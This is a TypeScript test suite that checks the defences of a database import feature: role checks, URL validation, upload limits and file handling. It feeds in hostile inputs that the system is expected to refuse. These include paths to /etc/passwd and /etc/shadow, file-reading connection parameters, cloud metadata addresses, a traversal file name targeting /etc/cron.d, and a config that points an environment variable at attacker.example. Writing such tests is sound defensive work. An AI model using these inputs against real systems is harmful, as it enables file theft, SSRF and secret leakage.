// An import can create accounts of any role. It reads a database at any URL, or an uploaded file with any content.
import { afterAll, beforeAll, expect, setDefaultTimeout, test } from 'bun:test'
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { type ImportRun, mostUploadBytes } from '../../contract/api/import.ts'
import { createImportUploads } from '../../server/jobs/import-uploads.ts'
import { sourceAddress } from '../../server/lib/network/source-address.ts'
import { operatorAddress } from '../../server/outbound/operator-address.ts'
import { forEachDatabase } from '../helpers/databases.ts'
import { ownSource, smallRows } from '../import/own-samples.ts'
import { type Attacker, type Scene, scene } from './setup.ts'

setDefaultTimeout(60_000)

test('only the address of a database server is accepted: no file, no socket, no parameter that reads a file', () => {
  const refused = [
    ...['/etc/passwd', 'file:///etc/passwd', 'sqlite:///data/tollgate.db', 'tollgate.db', 'http://127.0.0.1/x', ''],
    ...[
      'postgres:///name?host=/var/run/postgresql',
      'postgres://u:p@%2Fvar%2Frun/name',
      'root:x@unix(/run/mysql.sock)/db',
    ],
    ...['sslcert', 'sslkey', 'sslrootcert', 'host', 'options', 'service', 'passfile'].map(
      (name) => `postgres://u:p@db.example/name?${name}=/etc/shadow`,
    ),
    ...['socketPath', 'allowAllFiles', 'ssl', 'debug', 'flags'].map((name) => `mysql://u:p@db.example/name?${name}=1`),
    'u:p@tcp(db.example:3306)/name?allowAllFiles=true',
  ]
  for (const text of refused) expect([text, sourceAddress(text)]).toEqual([text, { fault: expect.any(String) }])
  for (const text of refused) expect(JSON.stringify(sourceAddress(text))).not.toContain('u:p')
  expect(sourceAddress('u:p@ss:w0rd@tcp(10.0.0.5:3307)/oneapi?charset=utf8mb4&parseTime=True')).toMatchObject({
    ...{
      kind: 'mysql',
      host: '10.0.0.5',
      port: 3307,
      user: 'u',
      password: 'p@ss:w0rd',
      database: 'oneapi',
      tls: 'off',
    },
    label: 'mysql://10.0.0.5:3307/oneapi',
  })
  expect(sourceAddress('postgres://u:p%40@[fd00::1]/new?sslmode=verify-full')).toMatchObject({
    ...{ kind: 'postgres', host: 'fd00::1', port: 5432, password: 'p@', tls: 'checked' },
    label: 'postgres://[fd00::1]:5432/new',
  })
})

test('for a host name, the import connects to the IP address that was checked, and never to a cloud metadata service', async () => {
  for (const host of ['169.254.169.254', 'metadata.google.internal', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe'])
    await expect(operatorAddress(host)).rejects.toThrow('metadata')
  await expect(operatorAddress('rebound.example', async () => ['10.0.0.1', '169.254.169.254'])).rejects.toThrow(
    'metadata',
  )
  await expect(operatorAddress('nowhere.example', async () => [])).rejects.toThrow('unknown')
  expect(await operatorAddress('db.example', async () => ['10.0.0.1'])).toBe('10.0.0.1')
  expect(await operatorAddress('10.1.2.3')).toBe('10.1.2.3')
})

forEachDatabase((_, openFresh) => {
  let set: Scene
  let root: Attacker
  let others: Attacker[]

  beforeAll(async () => {
    set = await scene(await openFresh())
    root = await set.person(100)
    others = [await set.person(1), await set.person(10)]
  })
  afterAll(() => set.api.store.close())

  const call = async (method: string, path: string, as: Attacker, body?: unknown) =>
    (await set.api.call(method, path, { as: as.token, ...(body !== undefined && { body }) })).json
  const send = async (
    bytes: Uint8Array | string,
    as = root,
    name = 'one-api.db',
    headers: Record<string, string> = {},
  ) => {
    const response = await set.api.app.request(
      `/api/import/upload?name=${encodeURIComponent(name)}`,
      { method: 'POST', headers: { authorization: `Bearer ${as.token}`, ...headers }, body: bytes as never },
      { socketAddress: '203.0.113.9' },
    )
    return (await response.json()) as { success: boolean; message: string; data: { id: string; name: string } }
  }
  /** Waits until the import with this id has ended, and returns it. */
  const ended = async (id: number): Promise<ImportRun> => {
    for (let tries = 0; tries < 500; tries++) {
      const runs = (await call('GET', '/api/import/', root)).data as ImportRun[]
      const run = runs.find((each) => each.id === id)
      if (run && run.finished_at > 0) return run
      await new Promise((resolve) => setTimeout(resolve, 10))
    }
    throw new Error('the import did not end')
  }
  const folder = () => join(set.api.dataDir, 'imports/uploads')
  const sample = () => readFileSync(ownSource('one-api', smallRows()))

  test('users and admins cannot see, start, continue, cancel or download an import, or upload a file', async () => {
    for (const attacker of others) {
      for (const [method, path, body] of [
        ['GET', '/api/import/'],
        ['POST', '/api/import/', { address: 'mysql://a:b@127.0.0.1/x', dry_run: true }],
        ['POST', '/api/import/1/again', { dry_run: false }],
        ['POST', '/api/import/1/cancel', {}],
        ['GET', '/api/import/1/report'],
        ['GET', '/api/import/1/leftovers'],
      ] as const)
        expect([path, (await call(method, path, attacker, body)).success]).toEqual([path, false])
      expect((await send(sample(), attacker)).success).toBe(false)
    }
    expect(existsSync(folder())).toBe(false)
  })

  test('an invalid database URL is refused before any connection is made, and no response contains the password', async () => {
    const start = (body: object) => call('POST', '/api/import/', root, { dry_run: true, ...body })
    for (const address of [
      '/etc/passwd',
      'http://10.0.0.1/',
      'postgres://u:secret-pass@169.254.169.254/x',
      'mysql://u:secret-pass@metadata/x',
    ]) {
      const answer = await start({ address })
      expect([address, answer.success]).toEqual([address, false])
      expect(JSON.stringify(answer)).not.toContain('secret-pass')
    }
    expect(
      (await start({ address: 'mysql://u:p@127.0.0.1/x', logs_address: 'postgres://u:p@169.254.169.254/x' })).success,
    ).toBe(false)
    expect((await start({})).message).toBe('Enter an address, or upload a file.')
    let connections = 0
    const server = createServer((socket) => {
      connections++
      socket.destroy()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as { port: number }
    const { data } = await start({ address: `mysql://u:secret-pass@127.0.0.1:${port}/x` })
    const run = await ended(data.id)
    server.close()
    expect(connections).toBe(1)
    expect(run).toMatchObject({ state: 'failed', source: `mysql://127.0.0.1:${port}/x`, can_continue: true })
    expect(JSON.stringify(run)).not.toContain('secret-pass')
    const row = await set.api.store.read
      .selectFrom('import_runs')
      .selectAll()
      .where('id', '=', data.id)
      .executeTakeFirstOrThrow()
    expect(JSON.stringify(row)).not.toContain('secret-pass')
    for (const path of ['/api/import/', '/api/audit/'])
      expect(JSON.stringify(await call('GET', path, root))).not.toContain('secret-pass')
  })

  test('an uploaded file that is not a database or config.yaml of a supported kind is refused, and nothing of it is kept', async () => {
    for (const bytes of [
      '',
      'hello',
      '<?php',
      '\0'.repeat(100),
      'SQLite format 3',
      'PK\x03\x04',
      new Uint8Array([0xff, 0xfe]),
    ])
      expect((await send(bytes, root, 'one-api.db')).message).toBe(
        'The file is neither a SQLite database nor a config.yaml of LiteLLM.',
      )
    const stated = await send('x', root, 'big.db', { 'content-length': String(mostUploadBytes + 1) })
    expect(stated.message).toContain('larger than 512 MiB')
    expect(readdirSync(folder())).toEqual([])
    // The content begins like a database but is not one.
    const { data } = await send(`SQLite format 3\0${'x'.repeat(5000)}`)
    const started = await call('POST', '/api/import/', root, { upload: data.id, upload_name: data.name, dry_run: true })
    const run = await ended(started.data.id)
    expect(run.error).toContain('one-api.db cannot be read')
    expect(run.error).not.toContain(set.api.dataDir)
    expect(run.state).toBe('failed')
  })

  test('a file that is longer than its stated size is cut off at the limit', async () => {
    const uploads = createImportUploads(set.api.dataDir, () => set.api.time.ms, 1_000_000)
    const part = new Uint8Array(64 * 1024)
    let sent = 0
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent += part.length
        controller.enqueue(part)
      },
    })
    await expect(uploads.store(endless, { statedBytes: 10, idleMs: 0 })).rejects.toThrow('larger than 512 MiB')
    expect(sent).toBeLessThan(4_000_000)
    expect(readdirSync(folder()).filter((name) => name.endsWith('.part'))).toEqual([])
  })

  test('file names and ids cannot lead to other files, and nobody else on the machine can read the file', async () => {
    const { data } = await send(sample(), root, '../../../etc/cron.d/evil"<x>\u202e.db')
    expect(data.name).toBe('evilx.db')
    const files = readdirSync(folder())
    expect(files.filter((name) => name.startsWith(data.id))).toEqual([`${data.id}.db`])
    expect(statSync(join(folder(), `${data.id}.db`)).mode & 0o777).toBe(0o600)
    for (const upload of ['../secret', `${'a'.repeat(31)}/`, '/etc/passwd', 'A'.repeat(32)])
      expect((await call('POST', '/api/import/', root, { upload, dry_run: true })).success).toBe(false)
    // If the path of a report in the database leads to another file, this file cannot be downloaded.
    const precious = join(set.api.dataDir, 'imports', 'precious.txt')
    writeFileSync(precious, 'secret')
    const started = await call('POST', '/api/import/', root, { upload: data.id, upload_name: data.name, dry_run: true })
    await ended(started.data.id)
    const report = (await call('GET', `/api/import/${started.data.id}/report`, root)).data
    for (const leftoversFile of [precious, '/etc/passwd', join(set.api.dataDir, 'imports/../x-1-1.jsonl')]) {
      await set.api.store.write((trx) =>
        trx
          .updateTable('import_runs')
          .set({ report: JSON.stringify({ ...report, leftoversFile }) })
          .where('id', '=', started.data.id)
          .execute(),
      )
      expect((await call('GET', `/api/import/${started.data.id}/leftovers`, root)).message).toBe(
        'This import has no leftovers: everything was imported.',
      )
    }
  })

  test('an uploaded config.yaml cannot read the server’s environment variables', async () => {
    const config = `model_list:
  - model_name: gpt-4o
    litellm_params: { model: openai/gpt-4o, api_key: os.environ/PATH, api_base: "https://attacker.example" }
`
    const { data } = await send(config, root, 'config.yaml')
    const started = await call('POST', '/api/import/', root, {
      upload: data.id,
      upload_name: data.name,
      dry_run: true,
      merge: true,
    })
    expect(await ended(started.data.id)).toMatchObject({ state: 'done' })
    const report = (await call('GET', `/api/import/${started.data.id}/report`, root)).data
    expect(JSON.stringify(report)).toContain('PATH')
    expect(JSON.stringify(report)).not.toContain(process.env['PATH'] ?? '')
  })

  test('after a day, uploaded files are deleted and old imports can no longer be continued', async () => {
    await send(sample())
    set.api.time.ms += 25 * 3_600_000
    for (const { run } of set.api.imports.jobs) await run()
    expect(readdirSync(folder())).toEqual([])
    const runs = (await call('GET', '/api/import/', root)).data as ImportRun[]
    expect(runs.length).toBeGreaterThan(2)
    expect(runs.filter(({ can_continue }) => can_continue)).toEqual([])
    expect((await call('POST', `/api/import/${runs[0]?.id}/again`, root, { dry_run: false })).message).toBe(
      'The source of this import is no longer known. Enter it again.',
    )
  })
})
